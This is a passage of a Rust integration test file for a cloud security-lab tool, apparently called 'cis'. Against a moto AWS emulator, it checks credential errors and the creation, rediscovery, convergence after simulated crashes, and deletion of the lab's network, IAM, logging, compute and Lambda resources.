//! `--cloud aws` against a real moto server: the connection and its credential check
//! (and a machine with no credentials at all), every kind of the lab created, found,
//! probed and deleted, the SageMaker model, attacks through SSM Run Command, containment,
//! the TTL's janitor, and crashes of `up` at many points.

use std::process::Command;

use crate::moto::Moto;
use crate::Lab;

/// `cis` with no AWS configuration whatsoever: no AWS_* variables, an empty home.
fn without_aws(lab: &Lab, home: &std::path::Path, args: &[&str]) -> Command {
    let mut c = lab.cmd(args);
    for (k, _) in std::env::vars_os() {
        if k.to_string_lossy().starts_with("AWS_") {
            c.env_remove(k);
        }
    }
    c.env("HOME", home).env_remove("XDG_CONFIG_HOME");
    c
}

#[test]
fn up_without_credentials_says_how_to_configure_them_and_creates_nothing() {
    let lab = Lab::new();
    let home = tempfile::tempdir().unwrap();
    let started = std::time::Instant::now();
    let out = without_aws(&lab, home.path(), &["--cloud", "aws", "up"]).output().unwrap();
    // Reported, not asserted: timing assertions are flaky on shared machines. The check is
    // bounded at 3 s by `aws::connect`; the issue's bar is 5 s.
    eprintln!("no-credentials failure after {:.2} s", started.elapsed().as_secs_f64());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("no AWS credentials") && stderr.contains("aws configure") && stderr.contains("--profile"), "{stderr}");
    assert!(stderr.contains("nothing was created"), "{stderr}");
    assert!(!lab.state().join("aws").exists(), "no ledger, no lab directory");
}

#[tokio::test(flavor = "current_thread")]
async fn status_all_lists_the_labs_tagged_in_the_account_and_an_impossible_up_changes_nothing() {
    let moto = Moto::start();
    let config = moto.sdk_config().await;
    let ec2 = aws_sdk_ec2::Client::new(&config);
    let lab = Lab::new();
    let cis = |args: &[&str]| {
        let mut c = lab.cmd(&[&["--cloud", "aws", "--endpoint-url", &moto.endpoint][..], args].concat());
        c.envs(moto.env());
        c.output().unwrap()
    };

    let empty = cis(&["status", "--all"]);
    assert!(empty.status.success(), "{}", String::from_utf8_lossy(&empty.stderr));
    assert_eq!(String::from_utf8_lossy(&empty.stdout).trim(), "no labs on aws");
    assert!(String::from_utf8_lossy(&empty.stderr).contains("acting on the AWS account 123456789012 in us-east-1"));

    for lab in ["trainee-07", "trainee-03"] {
        let tags = aws_sdk_ec2::types::TagSpecification::builder()
            .resource_type(aws_sdk_ec2::types::ResourceType::Vpc)
            .tags(aws_sdk_ec2::types::Tag::builder().key("cis:lab").value(lab).build())
            .tags(aws_sdk_ec2::types::Tag::builder().key("cis:managed").value("true").build())
            .build();
        ec2.create_vpc().cidr_block("10.42.0.0/16").tag_specifications(tags).send().await.unwrap();
    }
    // Someone else's VPC, tagged with a lab but not managed by cis.
    let foreign = aws_sdk_ec2::types::TagSpecification::builder()
        .resource_type(aws_sdk_ec2::types::ResourceType::Vpc)
        .tags(aws_sdk_ec2::types::Tag::builder().key("cis:lab").value("not-ours").build())
        .build();
    ec2.create_vpc().cidr_block("10.9.0.0/16").tag_specifications(foreign).send().await.unwrap();
    let listed = cis(&["status", "--all", "--output", "json"]);
    let labs: serde_json::Value = serde_json::from_slice(&listed.stdout).unwrap();
    assert_eq!(labs["labs"], serde_json::json!(["trainee-03", "trainee-07"]), "{labs}");

    let vpcs = || async { ec2.describe_vpcs().send().await.unwrap().vpcs().len() };
    let before = vpcs().await;
    // A region without SageMaker's built-in forest is refused before anything is created.
    let up = cis(&["--region", "il-central-1", "up", "--detector", "endpoint"]);
    let stderr = String::from_utf8_lossy(&up.stderr);
    assert_eq!(up.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("Random Cut Forest image is not known for il-central-1") && stderr.contains("--detector lambda"), "{stderr}");
    assert_eq!(vpcs().await, before, "up created nothing");

    let home = tempfile::tempdir().unwrap();
    let wrong = without_aws(
        &lab,
        home.path(),
        &["--cloud", "aws", "--endpoint-url", &moto.endpoint, "--profile", "no-such-profile", "status", "--all"],
    )
    .output()
    .unwrap();
    let stderr = String::from_utf8_lossy(&wrong.stderr);
    assert_eq!(wrong.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("no-such-profile"), "the message names the profile: {stderr}");
}

#[tokio::test(flavor = "current_thread")]
async fn the_network_is_created_tagged_found_again_with_its_rules_converged_and_deleted() {
    use cis::backends::aws::network;
    use cis::lab::{rendered, LabGraph, LabName, LabOptions, Refs, Role};

    let moto = Moto::start();
    let ec2 = aws_sdk_ec2::Client::new(&moto.sdk_config().await);
    let lab: LabName = "net".parse().unwrap();
    // Two-step isolation: the one way the lab has a group admitting 0.0.0.0/0.
    let options = LabOptions { isolation: cis::lab::IsolationSteps::TwoStep, ..Default::default() };
    let graph = LabGraph::build(&lab, &options, "run-1");
    let roles = [
        Role::Vpc,
        Role::Subnet,
        Role::InternetGateway,
        Role::RouteTable,
        Role::TargetSecurityGroup,
        Role::AllowAllSecurityGroup,
        Role::IsolationSecurityGroup,
    ];
    let mut refs = Refs::new();
    let mut specs = Vec::new();
    for role in roles {
        let spec = rendered(graph.get(role).unwrap(), &lab, "us-east-1", "123456789012", &refs).unwrap();
        let id = network::create(&ec2, &spec, &refs).await.unwrap_or_else(|e| panic!("{role}: {e}"));
        network::converge(&ec2, &spec, &id, &refs).await.unwrap_or_else(|e| panic!("{role}: {e}"));
        refs.insert(role, id);
        specs.push(spec);
    }

    // Tagged with the lab and role, found again by them.
    for spec in &specs {
        assert_eq!(network::find(&ec2, spec, &refs).await.unwrap().as_ref(), refs.get(&spec.role), "{}", spec.role);
    }
    let group = |id: String| {
        let ec2 = ec2.clone();
        async move { ec2.describe_security_groups().group_ids(id).send().await.unwrap().security_groups()[0].clone() }
    };
    let isolation = group(refs[&Role::IsolationSecurityGroup].clone()).await;
    assert!(isolation.ip_permissions().is_empty() && isolation.ip_permissions_egress().is_empty(), "{isolation:?}");
    let target = group(refs[&Role::TargetSecurityGroup].clone()).await;
    assert!(target.ip_permissions().is_empty(), "no inbound rule without --ssh-from: {target:?}");
    let allow_all = group(refs[&Role::AllowAllSecurityGroup].clone()).await;
    assert_eq!(allow_all.ip_permissions().len(), 1);
    assert!(allow_all.tags().iter().any(|t| t.key() == Some("cis:lab") && t.value() == Some("net")));
    let table = ec2.describe_route_tables().route_table_ids(&refs[&Role::RouteTable]).send().await.unwrap().route_tables()[0].clone();
    assert!(table
        .routes()
        .iter()
        .any(|r| r.destination_cidr_block() == Some("0.0.0.0/0") && r.gateway_id() == Some(refs[&Role::InternetGateway].as_str())));
    assert!(table.associations().iter().any(|a| a.subnet_id() == Some(refs[&Role::Subnet].as_str())));

    // A crash between CreateSecurityGroup and RevokeSecurityGroupEgress left the isolation
    // group allowing all egress: converging it again (what `up` does on resume and on
    // adoption) makes its rules exact.
    let everything = aws_sdk_ec2::types::IpPermission::builder()
        .ip_protocol("-1")
        .ip_ranges(aws_sdk_ec2::types::IpRange::builder().cidr_ip("0.0.0.0/0").build())
        .build();
    ec2.authorize_security_group_egress().group_id(&refs[&Role::IsolationSecurityGroup]).ip_permissions(everything).send().await.unwrap();
    let iso_spec = specs.iter().find(|s| s.role == Role::IsolationSecurityGroup).unwrap();
    network::converge(&ec2, iso_spec, &refs[&Role::IsolationSecurityGroup], &refs).await.unwrap();
    assert!(group(refs[&Role::IsolationSecurityGroup].clone()).await.ip_permissions_egress().is_empty());

    // Deleted deepest first; each then NotFound.
    for spec in specs.iter().rev() {
        network::delete(&ec2, spec.kind, &refs[&spec.role]).await.unwrap_or_else(|e| panic!("{}: {e}", spec.role));
        let after = network::status(&ec2, spec.kind, &refs[&spec.role]).await;
        assert!(matches!(after, Err(ref e) if e.is_not_found()), "{}: {after:?}", spec.role);
    }
    let left =
        ec2.describe_vpcs().filters(aws_sdk_ec2::types::Filter::builder().name("tag:cis:lab").values("net").build()).send().await.unwrap();
    assert!(left.vpcs().is_empty());

    // The subnet's zone offers the target's type: the first by name that does. moto (the
    // offering tables AWS published) has trn1.2xlarge in us-east-1c and -1f only, and puts a
    // subnet without a zone in us-east-1a. A type no zone offers is refused, saying what to do.
    let vpc = network::create(
        &ec2,
        &rendered(graph.get(Role::Vpc).unwrap(), &lab, "us-east-1", "123456789012", &Refs::new()).unwrap(),
        &Refs::new(),
    )
    .await
    .unwrap();
    let refs = Refs::from([(Role::Vpc, vpc.clone())]);
    for (instance_type, zone) in [("t3.micro", Some("us-east-1a")), ("trn1.2xlarge", Some("us-east-1c")), ("t3.nonesuch", None)] {
        let options = LabOptions { instance_type: instance_type.into(), ..Default::default() };
        let graph = LabGraph::build(&lab, &options, "run-1");
        let spec = rendered(graph.get(Role::Subnet).unwrap(), &lab, "us-east-1", "123456789012", &refs).unwrap();
        match (network::create(&ec2, &spec, &refs).await, zone) {
            (Ok(id), Some(zone)) => {
                let subnet = ec2.describe_subnets().subnet_ids(&id).send().await.unwrap().subnets()[0].clone();
                assert_eq!(subnet.availability_zone(), Some(zone), "{instance_type}");
                network::delete(&ec2, spec.kind, &id).await.unwrap();
            }
            (Err(e), None) => {
                assert!(matches!(e, cis::cloud::CloudError::Invalid(_)), "{e:?}");
                assert!(e.to_string().contains("--instance-type"), "{e}");
            }
            (other, _) => panic!("{instance_type}: {other:?}"),
        }
    }
    network::delete(&ec2, cis::lab::ResourceKind::Vpc, &vpc).await.unwrap();
}

#[tokio::test(flavor = "current_thread")]
async fn the_roles_policies_and_instance_profile_are_created_found_converged_and_deleted() {
    use cis::backends::aws::iam;
    use cis::lab::{rendered, LabGraph, LabName, LabOptions, Refs, Role};

    let moto = Moto::start();
    let client = aws_sdk_iam::Client::new(&moto.sdk_config().await);
    let lab: LabName = "iam".parse().unwrap();
    let graph = LabGraph::build(&lab, &LabOptions::default(), "run-1");
    // What the policies refer to, as the other kinds will create them.
    let mut refs = Refs::from([
        (Role::LogGroup, "arn:aws:logs:us-east-1:123456789012:log-group:cis-iam-flow-logs".to_string()),
        (Role::Topic, "arn:aws:sns:us-east-1:123456789012:cis-iam-alerts".to_string()),
        (Role::Vpc, "vpc-0123456789abcdef0".to_string()),
    ]);
    let roles = [
        Role::InstanceRole,
        Role::InstanceRolePolicy,
        Role::InstanceProfile,
        Role::FlowLogRole,
        Role::FlowLogPolicy,
        Role::ContainmentRole,
        Role::ContainmentPolicy,
    ];
    let mut specs = Vec::new();
    for role in roles {
        let spec = rendered(graph.get(role).unwrap(), &lab, "us-east-1", "123456789012", &refs).unwrap();
        let id = iam::create(&client, &spec, &refs).await.unwrap_or_else(|e| panic!("{role}: {e}"));
        refs.insert(role, id);
        specs.push(spec);
    }
    assert!(refs[&Role::InstanceRole].starts_with("arn:aws:iam::123456789012:role/cis-iam-"), "{refs:?}");
    for spec in &specs {
        assert_eq!(iam::find(&client, spec, &refs).await.unwrap().as_ref(), refs.get(&spec.role), "{}", spec.role);
        assert!(iam::status(&client, spec.kind, &refs[&spec.role]).await.is_ok(), "{}", spec.role);
    }
    let role_tags = client.list_role_tags().role_name(iam::name_of(&refs[&Role::ContainmentRole])).send().await.unwrap();
    assert!(role_tags.tags().iter().any(|t| t.key() == "cis:lab" && t.value() == "iam"), "{role_tags:?}");

    // A crash between CreateInstanceProfile and AddRoleToInstanceProfile: found again, the
    // profile gets its role.
    let profile = iam::name_of(&refs[&Role::InstanceProfile]).to_string();
    client
        .remove_role_from_instance_profile()
        .instance_profile_name(&profile)
        .role_name(iam::name_of(&refs[&Role::InstanceRole]))
        .send()
        .await
        .unwrap();
    let profile_spec = specs.iter().find(|s| s.role == Role::InstanceProfile).unwrap();
    iam::find(&client, profile_spec, &refs).await.unwrap();
    let roles_in = client.get_instance_profile().instance_profile_name(&profile).send().await.unwrap();
    assert_eq!(roles_in.instance_profile().unwrap().roles().len(), 1);

    // A role goes with its policies, attachments and profile membership; then NotFound.
    for role in [Role::InstanceRole, Role::InstanceProfile, Role::FlowLogRole, Role::ContainmentRole] {
        let spec = specs.iter().find(|s| s.role == role).unwrap();
        iam::delete(&client, spec.kind, &refs[&role]).await.unwrap_or_else(|e| panic!("{role}: {e}"));
        assert!(iam::status(&client, spec.kind, &refs[&role]).await.is_err_and(|e| e.is_not_found()), "{role}");
    }
    let left = client.list_roles().send().await.unwrap();
    assert!(left.roles().iter().all(|r| !r.role_name().starts_with("cis-iam-")), "{left:?}");
    assert!(client.list_instance_profiles().send().await.unwrap().instance_profiles().is_empty());
}

#[tokio::test(flavor = "current_thread")]
async fn the_log_group_topic_and_rule_with_their_children_are_created_found_and_deleted() {
    use cis::backends::aws::pipeline::{self, Clients};
    use cis::lab::{rendered, LabGraph, LabName, LabOptions, Refs, Role};

    let moto = Moto::start();
    let c = Clients::new(&moto.sdk_config().await);
    let lab: LabName = "pipe".parse().unwrap();
    let options = LabOptions { notify_email: Some("ops@example.com".into()), ..Default::default() };
    let graph = LabGraph::build(&lab, &options, "run-1");
    // CloudWatch Logs checks that a subscription's function exists.
    let lambda = aws_sdk_lambda::Client::new(&moto.sdk_config().await);
    aws_sdk_iam::Client::new(&moto.sdk_config().await)
        .create_role()
        .role_name("cis-pipe-detector-role")
        .assume_role_policy_document(include_str!("../../assets/policies/lambda-trust.json"))
        .send()
        .await
        .unwrap();
    let mut functions = Vec::new();
    for name in ["cis-pipe-detector-function", "cis-pipe-containment-function"] {
        let empty_zip = aws_sdk_lambda::primitives::Blob::new(b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec());
        let out = lambda
            .create_function()
            .function_name(name)
            .runtime(aws_sdk_lambda::types::Runtime::Providedal2023)
            .handler("bootstrap")
            .role("arn:aws:iam::123456789012:role/cis-pipe-detector-role")
            .code(aws_sdk_lambda::types::FunctionCode::builder().zip_file(empty_zip).build())
            .send()
            .await
            .unwrap();
        functions.push(out.function_arn().unwrap().to_string());
    }
    let mut refs = Refs::from([(Role::DetectorFunction, functions[0].clone()), (Role::ContainmentFunction, functions[1].clone())]);
    let roles = [Role::LogGroup, Role::SubscriptionFilter, Role::Topic, Role::TopicSubscription, Role::EventRule, Role::EventTarget];
    let mut specs = Vec::new();
    for role in roles {
        let spec = rendered(graph.get(role).unwrap(), &lab, "us-east-1", "123456789012", &refs).unwrap();
        let id = pipeline::create(&c, &spec, &refs).await.unwrap_or_else(|e| panic!("{role}: {e}"));
        refs.insert(role, id);
        specs.push(spec);
    }
    assert_eq!(refs[&Role::LogGroup], "arn:aws:logs:us-east-1:123456789012:log-group:cis-pipe-flow-logs");
    for spec in &specs {
        assert_eq!(pipeline::find(&c, spec, &refs).await.unwrap().as_ref(), refs.get(&spec.role), "{}", spec.role);
        assert!(pipeline::status(&c, spec.kind, &refs[&spec.role]).await.is_ok(), "{}", spec.role);
    }
    let groups = c.logs.describe_log_groups().log_group_name_prefix("cis-pipe").send().await.unwrap();
    assert_eq!(groups.log_groups()[0].retention_in_days(), Some(7));
    let tags = c.logs.list_tags_for_resource().resource_arn(&refs[&Role::LogGroup]).send().await.unwrap();
    assert_eq!(tags.tags().and_then(|t| t.get("cis:lab")).map(String::as_str), Some("pipe"));

    // Children go with their parents: the rule with its target, the group with its filter.
    for role in [Role::EventRule, Role::TopicSubscription, Role::Topic, Role::LogGroup] {
        let spec = specs.iter().find(|s| s.role == role).unwrap();
        pipeline::delete(&c, spec.kind, &refs[&role]).await.unwrap_or_else(|e| panic!("{role}: {e}"));
    }
    for spec in &specs {
        let after = pipeline::status(&c, spec.kind, &refs[&spec.role]).await;
        assert!(after.as_ref().is_err_and(|e| e.is_not_found()), "{}: {after:?}", spec.role);
    }
}

#[tokio::test(flavor = "current_thread")]
async fn an_unconfirmed_email_subscription_is_found_again_by_subscribing_not_waited_for() {
    use cis::backends::aws::pipeline::{self, Clients};
    use cis::lab::{rendered, LabGraph, LabName, LabOptions, Refs, Role};
    // Through the strict proxy, which lists an unconfirmed e-mail subscription as AWS does:
    // SubscriptionArn "PendingConfirmation". Before the fix `find` returned that as the id
    // and `up`, resuming, waited 5 minutes for a person to confirm.
    let moto = Moto::strict(5);
    let strict = moto.strict_sdk_config().await;
    let c = Clients::new(&strict);
    let lab: LabName = "sub".parse().unwrap();
    let graph = LabGraph::build(&lab, &LabOptions { notify_email: Some("ops@example.com".into()), ..Default::default() }, "run-1");
    let mut refs = Refs::new();
    for role in [Role::Topic, Role::TopicSubscription] {
        let spec = rendered(graph.get(role).unwrap(), &lab, "us-east-1", "123456789012", &refs).unwrap();
        let id = pipeline::create(&c, &spec, &refs).await.unwrap_or_else(|e| panic!("{role}: {e}"));
        refs.insert(role, id);
    }
    let arn = refs[&Role::TopicSubscription].clone();
    assert!(arn.starts_with("arn:aws:sns:"), "Subscribe answers the ARN even unconfirmed: {arn}");
    let spec = rendered(graph.get(Role::TopicSubscription).unwrap(), &lab, "us-east-1", "123456789012", &refs).unwrap();
    // As after a crash between Subscribe and the ledger: not found by listing...
    assert_eq!(pipeline::find(&c, &spec, &refs).await.unwrap(), None);
    // ...so `up` subscribes again, and gets the same subscription, not a second one.
    assert_eq!(pipeline::create(&c, &spec, &refs).await.unwrap(), arn);
    let listed = c.sns.list_subscriptions_by_topic().topic_arn(&refs[&Role::Topic]).send().await.unwrap();
    assert_eq!(listed.subscriptions().len(), 1, "{listed:?}");
    assert!(pipeline::status(&c, spec.kind, &arn).await.is_ok());
    // A ledger of an earlier version holding "PendingConfirmation": made again, not waited for.
    assert!(pipeline::status(&c, spec.kind, "PendingConfirmation").await.is_err_and(|e| e.is_not_found()));
    assert!(moto.strict_stats()["subscription_pending_confirmation"] >= 2, "{:?}", moto.strict_stats());
    pipeline::delete(&c, spec.kind, &arn).await.unwrap();
    pipeline::delete(&c, cis::lab::ResourceKind::SnsTopic, &refs[&Role::Topic]).await.unwrap();
}

#[tokio::test(flavor = "current_thread")]
async fn an_instance_already_terminating_is_terminated_again_not_refused() {
    // A `down` cut short right after TerminateInstances, run again: lifting termination
    // protection first meets AWS's IncorrectInstanceState (the strict proxy answers it;
    // moto modifies a terminated instance), which stopped `down` before the fix.
    let moto = Moto::strict(6);
    let strict = moto.strict_sdk_config().await;
    let ec2 = aws_sdk_ec2::Client::new(&moto.sdk_config().await);
    let image = ec2.describe_images().send().await.unwrap().images()[0].image_id().unwrap().to_string();
    let run = ec2.run_instances().image_id(image).instance_type(aws_sdk_ec2::types::InstanceType::T3Micro).min_count(1).max_count(1);
    let id = run.send().await.unwrap().instances()[0].instance_id().unwrap().to_string();
    let strict_ec2 = aws_sdk_ec2::Client::new(&strict);
    strict_ec2.terminate_instances().instance_ids(&id).send().await.unwrap();
    cis::backends::aws::compute::delete(&strict_ec2, cis::lab::ResourceKind::Instance, &id)
        .await
        .unwrap_or_else(|e| panic!("the second termination was refused: {e}"));
    assert_eq!(moto.strict_stats()["terminated_instance_not_modifiable"], 1, "{:?}", moto.strict_stats());
}

#[tokio::test(flavor = "current_thread")]
async fn the_target_and_its_flow_log_are_launched_as_the_lab_wants_and_removed() {
    use cis::backends::aws::{compute, iam, network, pipeline};
    use cis::lab::{rendered, LabGraph, LabName, LabOptions, Refs, ResourceKind, Role, AL2023_PARAMETER, LAB_LOG_FORMAT};

    let moto = Moto::start();
    let sdk = moto.sdk_config().await;
    let (ec2, ssm, iam_client, p) =
        (aws_sdk_ec2::Client::new(&sdk), aws_sdk_ssm::Client::new(&sdk), aws_sdk_iam::Client::new(&sdk), pipeline::Clients::new(&sdk));
    let lab: LabName = "box".parse().unwrap();
    let graph = LabGraph::build(&lab, &LabOptions::default(), "run-1");
    let mut refs = Refs::new();
    for role in [
        Role::Vpc,
        Role::Subnet,
        Role::TargetSecurityGroup,
        Role::InstanceRole,
        Role::InstanceRolePolicy,
        Role::InstanceProfile,
        Role::LogGroup,
        Role::FlowLogRole,
        Role::FlowLogPolicy,
        Role::TargetInstance,
        Role::FlowLog,
    ] {
        let spec = rendered(graph.get(role).unwrap(), &lab, "us-east-1", "123456789012", &refs).unwrap();
        let id = match spec.kind {
            ResourceKind::Vpc | ResourceKind::Subnet | ResourceKind::SecurityGroup => network::create(&ec2, &spec, &refs).await,
            ResourceKind::IamRole | ResourceKind::IamRolePolicy | ResourceKind::InstanceProfile => {
                iam::create(&iam_client, &spec, &refs).await
            }
            ResourceKind::LogGroup => pipeline::create(&p, &spec, &refs).await,
            _ => compute::create(&ec2, &ssm, &spec, &refs).await,
        }
        .unwrap_or_else(|e| panic!("{role}: {e}"));
        refs.insert(role, id);
        if matches!(spec.kind, ResourceKind::Instance | ResourceKind::FlowLog) {
            assert_eq!(compute::find(&ec2, &spec).await.unwrap().as_ref(), refs.get(&role), "{role}");
        }
    }

    let instance_id = refs[&Role::TargetInstance].clone();
    let described = ec2.describe_instances().instance_ids(&instance_id).send().await.unwrap();
    let instance = described.reservations()[0].instances()[0].clone();
    let image = compute::resolve_image(&ssm, AL2023_PARAMETER).await.unwrap();
    assert_eq!(instance.image_id(), Some(image.as_str()), "Amazon Linux 2023 from the public parameter");
    assert_eq!(instance.instance_type().map(|t| t.as_str()), Some("t3.micro"));
    assert_eq!(instance.metadata_options().and_then(|m| m.http_tokens()).map(|t| t.as_str()), Some("required"), "IMDSv2 required");
    assert!(instance.tags().iter().any(|t| t.key() == Some("cis:role") && t.value() == Some("target")));
    let lab_tagged = |kind: &'static str| {
        let ec2 = ec2.clone();
        async move {
            let out = ec2
                .describe_tags()
                .filters(aws_sdk_ec2::types::Filter::builder().name("resource-type").values(kind).build())
                .filters(aws_sdk_ec2::types::Filter::builder().name("key").values("cis:lab").build())
                .send()
                .await
                .unwrap();
            out.tags().iter().filter(|t| t.value() == Some("box")).count()
        }
    };
    // The volume is tagged at launch. (So is the network interface on EC2, which the
    // containment policy's tag condition needs; moto applies RunInstances' tag
    // specifications to instances and volumes only, so that part is unobservable here.)
    assert_eq!(lab_tagged("volume").await, 1, "the root volume is tagged at launch");
    let flow = ec2.describe_flow_logs().flow_log_ids(&refs[&Role::FlowLog]).send().await.unwrap().flow_logs()[0].clone();
    assert_eq!(flow.max_aggregation_interval(), Some(60));
    assert_eq!(flow.log_format(), Some(LAB_LOG_FORMAT));
    assert_eq!(flow.log_group_name(), Some("cis-box-flow-logs"));

    // Containment protected the instance for forensics: deleting it lifts that first.
    ec2.modify_instance_attribute()
        .instance_id(&instance_id)
        .disable_api_termination(aws_sdk_ec2::types::AttributeBooleanValue::builder().value(true).build())
        .send()
        .await
        .unwrap();
    compute::delete(&ec2, ResourceKind::FlowLog, &refs[&Role::FlowLog]).await.unwrap();
    compute::delete(&ec2, ResourceKind::Instance, &instance_id).await.unwrap();
    assert!(compute::status(&ec2, ResourceKind::FlowLog, &refs[&Role::FlowLog]).await.is_err_and(|e| e.is_not_found()));
    let after = compute::status(&ec2, ResourceKind::Instance, &instance_id).await;
    assert!(matches!(after, Err(ref e) if e.is_not_found()) || matches!(after, Ok(cis::cloud::ResourceStatus::Deleting(_))), "{after:?}");
}

#[tokio::test(flavor = "current_thread")]
async fn the_functions_are_deployed_from_their_packages_with_no_simulated_model_and_their_permissions() {
    use cis::backends::aws::{iam, lambda, pipeline};
    use cis::lab::{rendered, DetectorMode, FunctionCode, LabGraph, LabName, LabOptions, Refs, ResourceKind, Role};

    // Stand-in packages (moto stores code, it does not run it; the real bootstraps are
    // tested as Lambda runs them in lambda/tests/functions).
    let dir = tempfile::tempdir().unwrap();
    for name in ["containment.zip", "detector.zip", "janitor.zip"] {
        let zip = cis::zip::write(&[cis::zip::Entry { name: "bootstrap", data: b"#!/bin/sh\n", mode: 0o755 }]).unwrap();
        std::fs::write(dir.path().join(name), zip).unwrap();
    }
    let dirs = vec![dir.path().to_path_buf()];
    // The detector's package is the built one as it is: no model of the simulator's
    // baseline rides along (the function reads the one `cis arm` trains on the lab).
    let detector = lambda::deployment_package(FunctionCode::Detector, &dirs).unwrap();
    let listed = std::process::Command::new("python3")
        .args(["-c", "import sys, zipfile, io; z = zipfile.ZipFile(io.BytesIO(sys.stdin.buffer.read())); assert z.testzip() is None; print(' '.join(z.namelist()))"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            use std::io::Write;
            c.stdin.take().unwrap().write_all(&detector)?;
            c.wait_with_output()
        })
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&listed.stdout).trim(), "bootstrap", "{}", String::from_utf8_lossy(&listed.stderr));

    let moto = Moto::start();
    let sdk = moto.sdk_config().await;
    let (iam_client, lambda_client, p) = (aws_sdk_iam::Client::new(&sdk), aws_sdk_lambda::Client::new(&sdk), pipeline::Clients::new(&sdk));
    let lab: LabName = "fn".parse().unwrap();
    let graph = LabGraph::build(&lab, &LabOptions { detector: DetectorMode::Lambda, ..Default::default() }, "run-1");
    let mut refs = Refs::from([(Role::Vpc, "vpc-0lab".to_string())]);
    let mut specs = Vec::new();
    for role in [
        Role::Topic,
        Role::IsolationSecurityGroup,
        Role::LogGroup,
        Role::DetectorRole,
        Role::DetectorPolicy,
        Role::DetectorFunction,
        Role::DetectorPermission,
        Role::ContainmentRole,
        Role::ContainmentPolicy,
        Role::ContainmentFunction,
        Role::EventRule,
        Role::ContainmentPermission,
    ] {
        if role == Role::IsolationSecurityGroup {
            refs.insert(role, format!("sg-0{role}"));
            // The lab's bucket, which the detector's policy and environment name (its
            // memory across windows lives there); a name is all they need.
            refs.insert(Role::ModelData, "cis-fn-model-data-123456789012".into());
            continue;
        }
        let spec = rendered(graph.get(role).unwrap(), &lab, "us-east-1", "123456789012", &refs).unwrap();
        let id = match spec.kind {
            ResourceKind::IamRole | ResourceKind::IamRolePolicy => iam::create(&iam_client, &spec, &refs).await,
            ResourceKind::LambdaFunction | ResourceKind::LambdaPermission => lambda::create(&lambda_client, &spec, &refs, &dirs).await,
            _ => pipeline::create(&p, &spec, &refs).await,
        }
        .unwrap_or_else(|e| panic!("{role}: {e}"));
        if matches!(spec.kind, ResourceKind::LambdaFunction | ResourceKind::LambdaPermission) {
            lambda::converge(&lambda_client, &spec, &id, &refs).await.unwrap_or_else(|e| panic!("{role}: {e}"));
        }
        refs.insert(role, id);
        specs.push(spec);
    }
    for spec in specs.iter().filter(|s| matches!(s.kind, ResourceKind::LambdaFunction | ResourceKind::LambdaPermission)) {
        assert_eq!(lambda::find(&lambda_client, spec, &refs).await.unwrap().as_ref(), refs.get(&spec.role), "{}", spec.role);
        assert!(lambda::status(&lambda_client, spec.kind, &refs[&spec.role]).await.is_ok(), "{}", spec.role);
    }
    let f = lambda_client.get_function().function_name("cis-fn-containment-function").send().await.unwrap();
    let config = f.configuration().unwrap();
    assert_eq!(config.runtime().map(|r| r.as_str()), Some("provided.al2023"));
    assert_eq!(config.handler(), Some("bootstrap"));
    let env = config.environment().and_then(|e| e.variables()).unwrap();
    assert_eq!(env.get("CIS_ISOLATION_SG").map(String::as_str), Some("sg-0isolation-sg"), "the environment is rendered: {env:?}");
    assert_eq!(env.get("CIS_TOPIC_ARN"), Some(&refs[&Role::Topic]));
    let detector = lambda_client.get_function().function_name("cis-fn-detector-function").send().await.unwrap();
    let detector_env = detector.configuration().and_then(|c| c.environment()).and_then(|e| e.variables()).unwrap();
    assert_eq!(detector_env.get("CIS_MEMORY_BUCKET").map(String::as_str), Some("cis-fn-model-data-123456789012"), "{detector_env:?}");
    assert!(!detector_env.contains_key("CIS_MODEL_KEY"), "a new lab's detector is learning: {detector_env:?}");
    // Armed, the detector's spec names its model: converging puts it in the environment.
    let mut armed = specs.iter().find(|s| s.role == Role::DetectorFunction).unwrap().clone();
    if let cis::lab::ResourceConfig::LambdaFunction { environment, .. } = &mut armed.config {
        environment.insert(cis::lab::MODEL_KEY_ENV.into(), "detector-model/20260101T000000Z.json".into());
    }
    lambda::converge(&lambda_client, &armed, &refs[&Role::DetectorFunction], &refs).await.unwrap();
    let detector = lambda_client.get_function().function_name("cis-fn-detector-function").send().await.unwrap();
    let detector_env = detector.configuration().and_then(|c| c.environment()).and_then(|e| e.variables()).unwrap();
    assert_eq!(detector_env.get("CIS_MODEL_KEY").map(String::as_str), Some("detector-model/20260101T000000Z.json"));
    assert_eq!(detector_env.get("CIS_MEMORY_BUCKET").map(String::as_str), Some("cis-fn-model-data-123456789012"), "the rest stays");
    // Containment runs one delivery at a time: a duplicate sees the first one's isolation.
    let reserved = |name: &str| {
        let lambda_client = lambda_client.clone();
        let name = name.to_string();
        async move { lambda_client.get_function_concurrency().function_name(name).send().await.unwrap().reserved_concurrent_executions() }
    };
    assert_eq!(reserved("cis-fn-containment-function").await, Some(1));
    assert_eq!(reserved("cis-fn-detector-function").await, None);
    // As after a crash between the two calls: converging again (what `up` does on resume
    // and on adoption) puts it back.
    lambda_client.delete_function_concurrency().function_name("cis-fn-containment-function").send().await.unwrap();
    assert_eq!(reserved("cis-fn-containment-function").await, None);
    let containment = specs.iter().find(|s| s.role == Role::ContainmentFunction).unwrap();
    let containment_arn = refs[&Role::ContainmentFunction].clone();
    lambda::converge(&lambda_client, containment, &containment_arn, &refs).await.unwrap();
    assert_eq!(reserved("cis-fn-containment-function").await, Some(1), "converging puts the reserved concurrency back");

    // Both functions' events go to the lab's topic once Lambda's two retries failed: a
    // containment or a detection that gave up is announced, not dropped in silence.
    let on_failure = |name: &str| {
        let lambda_client = lambda_client.clone();
        let name = name.to_string();
        async move {
            match lambda_client.get_function_event_invoke_config().function_name(name).send().await {
                Ok(c) => Some((
                    c.maximum_retry_attempts(),
                    c.destination_config().and_then(|d| d.on_failure()).and_then(|f| f.destination()).map(String::from),
                )),
                Err(_) => None,
            }
        }
    };
    let topic = refs[&Role::Topic].clone();
    for name in ["cis-fn-containment-function", "cis-fn-detector-function"] {
        assert_eq!(on_failure(name).await, Some((Some(2), Some(topic.clone()))), "{name}");
    }
    // As after a crash between CreateFunction and PutFunctionEventInvokeConfig.
    lambda_client.delete_function_event_invoke_config().function_name("cis-fn-containment-function").send().await.unwrap();
